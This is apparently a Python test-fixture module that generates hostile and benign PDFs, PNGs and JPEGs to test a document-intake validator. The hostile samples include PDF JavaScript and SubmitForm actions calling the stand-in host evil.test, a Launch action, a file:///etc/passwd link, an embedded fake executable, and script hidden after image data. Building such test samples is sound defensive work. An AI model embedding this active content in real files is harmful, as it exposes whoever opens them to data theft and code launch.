"""Hostile and benign files for the intake, built at test time (no binary fixtures).

Each hostile maker returns bytes that carry one class of problem; HOSTILE names it with the
refusal code expected and a fragment the refusal's message must contain.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pikepdf
from PIL import Image
from reportlab.pdfgen import canvas

from documents.png_checks import ADAM7, CHANNELS

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"


# --- PDFs -------------------------------------------------------------------------------------


def pdf_bytes(build: Callable[[pikepdf.Pdf], Any] | None = None, **save: Any) -> bytes:
    """A one-page pikepdf PDF, changed by ``build`` before saving."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if build is not None:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def action(kind: str, **entries: Any) -> pikepdf.Dictionary:
    """An action dictionary of the given type (``/S``)."""
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name("/" + kind), **entries)


def annotate(pdf: pikepdf.Pdf, subtype: str, **entries: Any) -> pikepdf.Dictionary:
    """Add an annotation to the first page; the annotation."""
    annotation = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/" + subtype),
        Rect=pikepdf.Array([72, 72, 200, 100]), **entries,
    ))  # fmt: skip
    page = pdf.pages[0].obj
    if "/Annots" not in page:
        page.Annots = pikepdf.Array()
    page.Annots.append(annotation)
    return annotation


def link_pdf(act: pikepdf.Dictionary) -> bytes:
    """A PDF with a link annotation running the action when clicked."""
    return pdf_bytes(lambda pdf: annotate(pdf, "Link", A=act))


def javascript() -> pikepdf.Dictionary:
    return action("JavaScript", JS=pikepdf.String("app.launchURL('http://evil.test/')"))


def annotation_aa_javascript_pdf() -> bytes:
    """JavaScript run when the pointer enters an annotation (its /AA, nested, direct)."""
    return pdf_bytes(lambda pdf: annotate(pdf, "Link", AA=pikepdf.Dictionary(E=javascript())))


def open_action_javascript_pdf() -> bytes:
    def build(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(javascript())

    return pdf_bytes(build)


def names_javascript_pdf() -> bytes:
    """A document-level script in the catalog's /Names /JavaScript name tree."""

    def build(pdf: pikepdf.Pdf) -> None:
        tree = pikepdf.Dictionary(Names=pikepdf.Array(["startup", pdf.make_indirect(javascript())]))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pdf.make_indirect(tree))

    return pdf_bytes(build)


def embedded_exe_pdf() -> bytes:
    """evil.exe attached in /Names /EmbeddedFiles."""

    def build(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60, filename="evil.exe")
        pdf.attachments["evil.exe"] = spec

    return pdf_bytes(build)


def file_attachment_annotation_pdf() -> bytes:
    def build(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"@echo off\r\n", filename="run.bat")
        annotate(pdf, "FileAttachment", FS=spec.obj, Name=pikepdf.Name.PushPin)

    return pdf_bytes(build)


def encrypted_pdf(user: str) -> bytes:
    """Encrypted with this user password (empty: it opens without asking)."""
    return pdf_bytes(encryption=pikepdf.Encryption(owner="owner-pw", user=user))


XFA = b"""<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="f">
<event activity="initialize"><script contentType="application/x-javascript">
app.alert("XFA")</script></event></subform></template></xdp:xdp>"""


def xfa_pdf() -> bytes:
    def build(pdf: pikepdf.Pdf) -> None:
        xfa = pdf.make_stream(XFA)
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)

    return pdf_bytes(build)


def nested_direct_javascript_pdf() -> bytes:
    """JavaScript four levels down in direct dictionaries and arrays of the page's resources."""

    def build(pdf: pikepdf.Pdf) -> None:
        hidden = pikepdf.Dictionary(Deeper=pikepdf.Array([1, pikepdf.Dictionary(Js=javascript())]))
        pdf.pages[0].obj.Resources.Private = pikepdf.Dictionary(Deep=pikepdf.Array([hidden]))

    return pdf_bytes(build)


def object_stream_javascript_pdf() -> bytes:
    """The JavaScript action compressed inside an object stream."""
    return pdf_bytes(
        lambda pdf: annotate(pdf, "Link", A=pdf.make_indirect(javascript())),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


def many_objects_pdf(count: int, indirect: bool = True) -> bytes:
    """A PDF with ``count`` more small dictionaries: indirect objects, or nested in one."""

    def build(pdf: pikepdf.Pdf) -> None:
        pile = [pikepdf.Dictionary(N=n) for n in range(count)]
        pdf.Root.Pile = pikepdf.Array([pdf.make_indirect(d) for d in pile] if indirect else pile)

    return pdf_bytes(build)


def reportlab_pdf() -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.drawString(72, 720, "Fee receipt R-1, Treasury of Kazakhstan")
    page.linkURL("https://example.org/receipt", (72, 700, 300, 715))
    page.showPage()
    page.save()
    return out.getvalue()


def acroform_pdf() -> bytes:
    """A plain form: one text field, no XFA, no scripts."""

    def build(pdf: pikepdf.Pdf) -> None:
        field = annotate(pdf, "Widget", FT=pikepdf.Name.Tx, T=pikepdf.String("number"),
                         V=pikepdf.String("R-1"), P=pdf.pages[0].obj)  # fmt: skip
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))

    return pdf_bytes(build)


def navigation_pdf() -> bytes:
    """What word processors write: an /OpenAction destination and a GoTo link whose /Next
    chain loops back on itself (a reference cycle the walk must survive)."""

    def build(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        pdf.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.Fit])
        goto = pdf.make_indirect(action("GoTo", D=pikepdf.Array([page, pikepdf.Name.Fit])))
        goto.Next = goto
        annotate(pdf, "Link", A=goto)

    return pdf_bytes(build)


# --- Images -----------------------------------------------------------------------------------


def chunk(kind: bytes, body: bytes) -> bytes:
    """One PNG chunk with its length and CRC."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bytes(
    width: int,
    height: int,
    color_type: int = 6,
    interlaced: bool = False,
    pixel: Callable[[int, int], bytes] | None = None,
    palette: bytes = b"",
) -> bytes:
    """A PNG written here (Pillow writes no interlaced PNGs), 8 bits a sample, filter 0.

    Without ``pixel`` every pixel is zero and rows are compressed one at a time, so a huge
    image costs little memory to make."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, int(interlaced))
    packer = zlib.compressobj(1)  # the fastest: a 9000x9000 image is made in two seconds
    compressed = [packer.compress(row) for row in _rows(width, height, color_type, interlaced,
                                                         pixel)]  # fmt: skip
    compressed.append(packer.flush())
    plte = chunk(b"PLTE", palette) if palette else b""
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + plte
            + chunk(b"IDAT", b"".join(compressed)) + chunk(b"IEND", b""))  # fmt: skip


def _rows(width, height, color_type, interlaced, pixel):
    """The filtered rows (filter byte 0), pass by pass when interlaced."""
    if pixel is None and not interlaced:
        row = bytes(1 + width * CHANNELS[color_type])
        yield from (row for _ in range(height))
        return
    pixel = pixel or (lambda x, y: bytes(CHANNELS[color_type]))
    passes = ADAM7 if interlaced else ((0, 0, 1, 1),)
    for x0, y0, dx, dy in passes:
        columns = range(x0, width, dx)
        if not columns:
            continue
        for y in range(y0, height, dy):
            yield b"\x00" + b"".join(pixel(x, y) for x in columns)


def full_image_of(width: int, height: int) -> bytes:
    """The compressed pixel data of a colourful RGBA image."""
    rows = _rows(width, height, 6, False, lambda x, y: colourful(x, y) + b"\xff")
    return zlib.compress(b"".join(rows))


def png_with_idat(width: int, height: int, idat: bytes) -> bytes:
    """An RGBA PNG whose header and pixel data are given separately (so they can disagree)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat)
            + chunk(b"IEND", b""))  # fmt: skip


def colourful(x: int, y: int) -> bytes:
    """An RGB pixel that differs from its neighbours (so a pass mix-up would show)."""
    return bytes(((x * 37) % 256, (y * 59) % 256, ((x + y) * 13) % 256))


def pillow_image(mode: str, size: tuple[int, int] = (40, 20), **save: Any) -> bytes:
    """An image saved by Pillow in the format given by ``save['format']``."""
    image = Image.new(mode, size, "white" if mode != "P" else 1)
    if mode == "P":
        image.putpalette([0, 0, 0, 255, 255, 255, 200, 30, 30])
    out = io.BytesIO()
    image.save(out, **save)
    return out.getvalue()


def png(mode: str = "RGB") -> bytes:
    return pillow_image(mode, format="PNG")


def jpeg(**save: Any) -> bytes:
    return pillow_image("RGB", (64, 48), format="JPEG", **save)


def exif_with_thumbnail() -> bytes:
    """EXIF (APP1) whose IFD1 carries a JPEG thumbnail, end marker FFD9 included."""
    thumbnail = pillow_image("RGB", (16, 12), format="JPEG")
    assert thumbnail.endswith(b"\xff\xd9")
    ifd0 = struct.pack("<HI", 0, 14)  # no entries; IFD1 follows at offset 14
    ifd1 = struct.pack("<H", 2) + struct.pack("<HHII", 0x0201, 4, 1, 44)
    ifd1 += struct.pack("<HHII", 0x0202, 4, 1, len(thumbnail)) + struct.pack("<I", 0)
    return b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", 8) + ifd0 + ifd1 + thumbnail


# --- The corpus -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """A hostile file: how to make it, the refusal code, a fragment the message names."""

    make: Callable[[], bytes]
    code: str
    names: str
    limits: dict[str, int] = field(default_factory=dict)


HOSTILE_PDFS = {
    "pdf_with_a_javascript_link_annotation": Hostile(
        lambda: link_pdf(javascript()), "active_content", "JavaScript"),
    "pdf_with_javascript_nested_in_an_annotations_additional_actions": Hostile(
        annotation_aa_javascript_pdf, "active_content", "JavaScript"),
    "pdf_with_a_javascript_open_action": Hostile(
        open_action_javascript_pdf, "active_content", "JavaScript"),
    "pdf_with_a_javascript_name_tree": Hostile(
        names_javascript_pdf, "active_content", "/Names /JavaScript"),
    "pdf_with_an_embedded_evil_exe": Hostile(embedded_exe_pdf, "active_content", "evil.exe"),
    "pdf_with_a_file_attachment_annotation": Hostile(
        file_attachment_annotation_pdf, "active_content", "file attachment annotation"),
    "pdf_encrypted_with_an_empty_user_password": Hostile(
        lambda: encrypted_pdf(""), "encrypted_pdf", "empty password"),
    "pdf_encrypted_with_a_password": Hostile(
        lambda: encrypted_pdf("user-pw"), "encrypted_pdf", "Encrypted"),
    "pdf_with_an_xfa_form_carrying_script": Hostile(xfa_pdf, "active_content", "XFA"),
    "pdf_with_a_launch_action": Hostile(
        lambda: link_pdf(action("Launch", F=pikepdf.String("C:\\Windows\\calc.exe"))),
        "active_content", "/Launch"),
    "pdf_with_a_gotor_action_to_a_network_share": Hostile(
        lambda: link_pdf(action("GoToR", F=pikepdf.String("\\\\host\\share\\x.pdf"),
                                D=pikepdf.Array([0, pikepdf.Name.Fit]))),
        "active_content", "/GoToR"),
    "pdf_with_a_gotoe_action": Hostile(
        lambda: link_pdf(action("GoToE", T=pikepdf.Dictionary(R=pikepdf.Name.C),
                                D=pikepdf.Array([0, pikepdf.Name.Fit]))),
        "active_content", "/GoToE"),
    "pdf_with_a_file_uri": Hostile(
        lambda: link_pdf(action("URI", URI=pikepdf.String("file:///etc/passwd"))),
        "active_content", "file:///etc/passwd"),
    "pdf_with_a_uri_to_a_network_share": Hostile(
        lambda: link_pdf(action("URI", URI=pikepdf.String("\\\\host\\share"))),
        "active_content", "\\\\host\\share"),
    "pdf_with_a_rendition_action": Hostile(
        lambda: link_pdf(action("Rendition", OP=0)), "active_content", "/Rendition"),
    "pdf_with_a_rich_media_annotation": Hostile(
        lambda: pdf_bytes(lambda pdf: annotate(pdf, "RichMedia")), "active_content",
        "rich media"),
    "pdf_with_a_sound_action": Hostile(
        lambda: link_pdf(action("Sound")), "active_content", "/Sound"),
    "pdf_with_a_movie_action": Hostile(
        lambda: link_pdf(action("Movie")), "active_content", "/Movie"),
    "pdf_with_a_submit_form_action": Hostile(
        lambda: link_pdf(action("SubmitForm", F=pikepdf.String("http://evil.test/"))),
        "active_content", "/SubmitForm"),
    "pdf_with_an_import_data_action": Hostile(
        lambda: link_pdf(action("ImportData", F=pikepdf.String("data.fdf"))),
        "active_content", "/ImportData"),
    "pdf_with_an_unknown_action_where_actions_run": Hostile(
        lambda: link_pdf(action("Exec")), "active_content", "unknown action (/Exec)"),
    "pdf_with_javascript_hidden_in_a_nested_direct_dictionary": Hostile(
        nested_direct_javascript_pdf, "active_content", "JavaScript"),
    "pdf_with_javascript_inside_an_object_stream": Hostile(
        object_stream_javascript_pdf, "active_content", "JavaScript"),
    "pdf_with_more_objects_than_the_bound": Hostile(
        lambda: many_objects_pdf(300), "pdf_too_complex", "more than 200 objects",
        {"max_pdf_objects": 200}),
    "pdf_with_more_nested_dictionaries_than_the_bound": Hostile(
        lambda: many_objects_pdf(300, indirect=False), "pdf_too_complex",
        "more than 200 objects", {"max_pdf_objects": 200}),
}  # fmt: skip

HOSTILE_OTHERS = {
    "empty_file": Hostile(lambda: b"", "empty_file", "empty"),
    "truncated_pdf": Hostile(lambda: reportlab_pdf()[:400], "damaged_pdf", "cannot be read"),
    "junk_before_the_pdf_header": Hostile(
        lambda: b"junk\n" + pdf_bytes(), "unsupported_type", "Only PDF, PNG and JPEG"),
    "html_renamed_pdf": Hostile(lambda: HTML, "unsupported_type", "Only PDF, PNG and JPEG"),
    "png_with_html_after_iend": Hostile(
        lambda: png() + HTML, "trailing_data", f"{len(HTML)} bytes of other data after its end"),
    "jpeg_with_data_after_eoi": Hostile(
        lambda: jpeg() + HTML, "trailing_data", "after its end (EOI)"),
    "png_of_9000_by_9000_pixels": Hostile(
        lambda: png_bytes(9000, 9000), "image_too_large", "9000x9000"),
    "png_with_a_wrong_crc": Hostile(
        lambda: png()[:-5] + b"\x00" + png()[-4:], "damaged_image", "CRC"),
    "png_whose_pixel_data_is_larger_than_its_header_says": Hostile(
        lambda: png_with_idat(64, 8, full_image_of(64, 64)), "damaged_image",
        "larger than the header"),
    "png_whose_pixel_data_is_cut_short": Hostile(
        lambda: png_with_idat(64, 64, full_image_of(64, 64)[:200]), "damaged_image",
        "cut short"),
    "png_hiding_data_after_its_compressed_pixel_data": Hostile(
        lambda: png_with_idat(64, 64, full_image_of(64, 64) + HTML), "damaged_image",
        "after the end of the compressed pixel data"),
    "jpeg_cut_short": Hostile(lambda: jpeg()[:-20], "damaged_image", "ends inside"),
    "progressive_jpeg_over_its_smaller_limit": Hostile(
        lambda: jpeg(progressive=True), "image_too_large", "progressive",
        {"max_pixels": 64 * 48 * 4}),
}  # fmt: skip

HOSTILE = {**HOSTILE_PDFS, **HOSTILE_OTHERS}

BENIGN = {
    "pdf_made_by_pikepdf": pdf_bytes,
    "pdf_made_by_reportlab_with_an_https_link": reportlab_pdf,
    "pdf_with_an_http_link_annotation": lambda: link_pdf(
        action("URI", URI=pikepdf.String("http://example.org/fees"))),
    "pdf_with_a_plain_acroform": acroform_pdf,
    "pdf_with_navigation_and_a_cycle_of_actions": navigation_pdf,
    "pdf_with_object_streams": lambda: pdf_bytes(
        object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "png_rgb": lambda: png("RGB"),
    "png_rgba": lambda: png("RGBA"),
    "png_palette": lambda: png("P"),
    "png_grey": lambda: png("L"),
    "png_one_bit": lambda: png("1"),
    "png_sixteen_bit_grey": lambda: png("I;16"),
    "png_interlaced": lambda: png_bytes(33, 17, color_type=2, interlaced=True, pixel=colourful),
    "png_interlaced_smaller_than_a_block": lambda: png_bytes(3, 2, 2, True, colourful),
    "jpeg_baseline": jpeg,
    "jpeg_progressive": lambda: jpeg(progressive=True),
    "jpeg_with_an_exif_thumbnail": lambda: jpeg(exif=exif_with_thumbnail()),
    "jpeg_grey": lambda: pillow_image("L", format="JPEG"),
}  # fmt: skip
